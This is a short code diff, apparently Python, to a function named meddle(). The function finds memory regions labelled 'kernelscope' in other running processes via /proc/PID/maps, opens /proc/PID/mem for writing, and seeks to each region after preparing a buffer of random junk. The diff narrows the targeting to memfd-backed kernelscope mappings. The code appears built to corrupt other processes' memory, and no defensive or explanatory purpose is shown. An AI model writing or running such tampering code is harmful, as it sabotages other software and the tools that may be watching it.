@@ -36,7 +36,7 @@ def others():
 def meddle():
     junk = os.urandom(1 << 16)
     for pid in others()[1:]:
-        spans = [line.split() for line in open(f"/proc/{pid}/maps") if "kernelscope" in line]
+        spans = [line.split() for line in open(f"/proc/{pid}/maps") if "memfd:kernelscope" in line]
         with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
             for span, *_ in spans:
                 memory.seek(int(span.split("-")[0], 16))
